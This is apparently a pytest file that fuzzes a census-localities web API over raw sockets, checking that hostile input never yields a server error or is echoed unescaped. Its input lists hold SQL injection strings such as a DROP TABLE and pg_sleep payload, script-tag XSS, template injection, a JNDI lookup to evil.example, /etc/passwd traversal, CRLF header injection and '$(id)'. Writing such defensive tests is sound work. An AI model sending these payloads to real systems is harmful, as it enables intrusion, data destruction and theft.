"""Hostile input in every place that takes any, over raw sockets: never a 500, and never echoed."""

import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import islice
from typing import NamedTuple
from urllib.parse import quote

import pytest

from localidades_api.app import create_app
from localidades_api.settings import Settings
from tests.support.application import database_with
from tests.support.catalogue import Place
from tests.support.wire import LOCALIDADES, Live, send, serving

# A few of each kind: what is bound, escaped or refused is so whatever the input says.
TEXTS = [
    # SQL and full-text queries
    "'", '"', "' OR '1'='1", "1; DROP TABLE localities--", "'||pg_sleep(10)--", "\\'; SELECT 1--", "$$;SELECT 1;$$",
    "_%", ":release_id", "$1", "{1,2}", "a & b | !c", "a:*", "((((((", "'a' <-> 'b'",
    # HTML, templates and shells
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "<!--<script>alert(1)//-->", "javascript:alert(1)",
    '" onfocus=alert(1) autofocus="', "&lt;script&gt;", "{{7*7}}", "{% include '/etc/passwd' %}", "{0.__class__}",
    "%s%n", "%(password)s", "{}", "${jndi:ldap://evil.example/a}", '{"$gt":""}', "__proto__", "$(id)", "--help",
    # Paths and addresses
    "../../../../etc/passwd", "..\\..\\win.ini", "file:///etc/passwd", "..;/", "..%2f..%2fetc%2fpasswd", "%252e%252f",
    "..%c0%af", "//evil.example", "/\\evil.example", "https://evil.example/", "?page=2", "#top", "&page=2",
    "page=2&page=3",
    # Controls
    "\x00", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\t", "\x0b\x0c", "\x1b[2J",
    "\x7f", "\x85", "\u2028", "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
    # Unicode
    "١", "１", "½", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\U0001f4a9", "\U0010ffff", "\ufffe", "e\u0301" * 40,
    "\ufdfa" * 30, "ﬀ", "İ", "＜script＞", "田中さん", "\U000e0001\U000e0041",
    # Numbers
    "0", "-1", "+1", "1.0", "1e309", "NaN", "Infinity", "0x10", "1_000", " 1", "01", "2147483648",
    "9223372036854775808", "9" * 400, "0" * 400, "90.0000001", "-180.5", "1e-400", "", " ", "null", "[]",
    # Long
    "a" * 3000, "%" * 500, "(" * 1000, "a," * 1000, "\u00f1" * 500, "a b " * 500,
]  # fmt: skip
# Invalid UTF-8: overlong forms, surrogates and truncated characters, as bytes on the wire.
BYTES = [
    b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb2\xa9", b"\xff", b"\xfe\xff",
    b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x92", b"\xf4\x90\x80\x80", b"\xc3\x28", b"a\xffb",
]  # fmt: skip
INPUTS = [*(text.encode() for text in TEXTS), *BYTES]
PATHS = ["/{}", "/api/{}", "/api/census/{}/", f"{LOCALIDADES}{{}}/", f"{LOCALIDADES}{{}}", "/api/census/estados/{}/",
         "/static/{}", "/api/census/releases/{}/changes/?since=2020-01", "/docs/{}"]  # fmt: skip
HEADERS = ["Host", "Accept", "Accept-Language", "Accept-Encoding", "If-None-Match", "If-Modified-Since", "Range",
           "Origin", "Referer", "User-Agent", "Cookie", "Authorization", "Content-Type", "X-Forwarded-For",
           "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "Forwarded", "X-Request-ID", "Prefer",
           "X-HTTP-Method-Override", "X-Original-URL", "Traceparent"]  # fmt: skip

_PLAIN_NAME = re.compile(rb"[A-Za-z0-9_.-]{1,40}")
_ROWS = b"lugar,mpio,nombre\r\nLugar 1,,Lugar 1\r\n"
_TELLING = re.compile(rb"[^A-Za-z0-9 .,:+-]")  # inputs without such characters, or short ones, may occur by chance
# One relative URL, whose query is kept as sent, or several with their relations: nothing in them ends the
# URL, the header or the line.
_ADDRESSES = re.compile(
    rb'(?!//|[a-z]+:)[A-Za-z0-9._~%/-]*(\?[!-~\x80-\xff]*)?|(</[A-Za-z0-9._~%/?=&+-]*>; rel="[a-z]+"(, )?)+'
)


class Sent(NamedTuple):
    """A request and its hostile part."""

    place: str
    data: bytes
    request: bytes


def request_of(place: str, data: bytes, target: bytes, *headers: bytes, method: bytes = b"GET") -> Sent:
    host = () if place == "header Host" else (b"Host: test",)
    body = _ROWS if method == b"POST" else b""
    framing = (b"Content-Type: text/csv", b"Content-Length: %d" % len(body)) if body else ()
    lines = [method + b" " + target + b" HTTP/1.1", *host, b"Connection: close", *framing, *headers, b"", body]
    return Sent(place, data, b"\r\n".join(lines))


def parameters() -> Iterator[tuple[str, bytes, bytes]]:
    """Yield the parameters of all operations, with targets that lack the value, and methods."""
    paths = create_app(Settings()).openapi()["paths"]
    for path, method, operation in [(path, *one) for path, item in paths.items() for one in item.items()]:
        given = operation.get("parameters", [])
        known = {one["name"]: one["example"] for one in given if one["in"] == "path"} | {"name": "2020-01"}
        taken = [one for one in given if one["in"] == "query"]
        for one in taken:
            needed = [other for other in taken if other["required"] and other is not one]
            others = "".join(f"{other['name']}={other['example']}&" for other in needed)
            target = f"{path.format_map(known)}?{others}{one['name']}="
            yield one["name"], target.encode(), method.upper().encode()


def requests() -> Iterator[Sent]:
    """Put every input, escaped and as it is, into every parameter, name of a parameter, path and header."""
    places = list(parameters())
    shown = {name: (target, method) for name, target, method in places}
    for data in INPUTS:
        # Without the characters that would end the request line.
        escaped, decoded = quote(data, safe="").encode(), data.translate(None, b"\r\n ")
        for name, target, method in places:
            yield request_of(name, data, target + escaped, method=method)
        for name, (target, method) in shown.items():
            yield request_of(name, data, target + decoded, method=method)
            yield request_of(f"{name}, as a page", data, target + escaped + b"&format=api", method=method)
        for form in (escaped, decoded):
            if not _PLAIN_NAME.fullmatch(data):  # a plain name is shown, so that users find their typo
                yield request_of("name", data, LOCALIDADES.encode() + b"?" + form + b"=1")
                yield request_of("name, as a page", data, LOCALIDADES.encode() + b"?format=api&" + form + b"=1")
            for path in PATHS:
                yield request_of(path, data, path.encode().replace(b"{}", form))
        for name in HEADERS:
            yield request_of(f"header {name}", data, b"/api/census/?format=api", b"%b: %b" % (name.encode(), data))


@pytest.fixture(scope="module")
def live(server: str, migrated: str) -> Iterator[Live]:
    """Yield a server of places with harmless names and a long database timeout."""
    places = [Place(f"01001{number:04d}", f"Lugar {number}") for number in range(1, 133)]
    with (
        database_with(server, migrated, {"2020-01": places}) as url,
        serving(url, LOCALIDADES_DATABASE_TIMEOUT="30") as live,
    ):
        yield live


# A prime, so that each place gets some of the inputs, and together they get all.
@pytest.mark.parametrize("each", [53, pytest.param(1, marks=[pytest.mark.tail, pytest.mark.timeout(600)])])
def test_hostile_input_is_never_a_500_nor_echoed(live: Live, each: int) -> None:
    with ThreadPoolExecutor(4) as pool:
        answers = pool.map(lambda one: (one, send(live.base, one.request)), islice(requests(), 0, None, each))
        faults = [(one.place, one.data[:60], answer[:1000]) for one, answer in answers if is_fault(one, answer)]
    assert faults == []
    log = live.output.read_text()
    assert "Traceback" not in log
    assert "ERROR" not in log


def is_fault(one: Sent, answer: bytes) -> bool:
    """Return whether a response is none, an error of the server, or echoes the input unescaped.

    `Link` and `Location` may, escaped; a page may show the search as text. The estado and the municipio of all rows are
    cells of each, which an answer says like those of the body.
    """
    if not re.match(rb"HTTP/1\.1 [234]\d\d ", answer):
        return True
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    addresses = [line.partition(b": ")[2] for line in lines if line.startswith((b"link: ", b"location: "))]
    head = b"\n".join(line for line in lines if not line.startswith((b"link: ", b"location: ")))
    is_injected = any(mark in head for mark in (b"X-Injected", b"a=b", b"evil.example"))
    if is_injected or not all(_ADDRESSES.fullmatch(value) for value in addresses):
        return True
    if len(one.data) <= 3:
        return False
    if b"text/html" in head:
        return any(mark in one.data for mark in (b"<", b'"', b"'")) and one.data in body
    is_cell = one.place in {"estado", "municipio"} and one.request.startswith(b"POST")
    return bool(_TELLING.search(one.data)) and one.data in (head if is_cell else head + body)
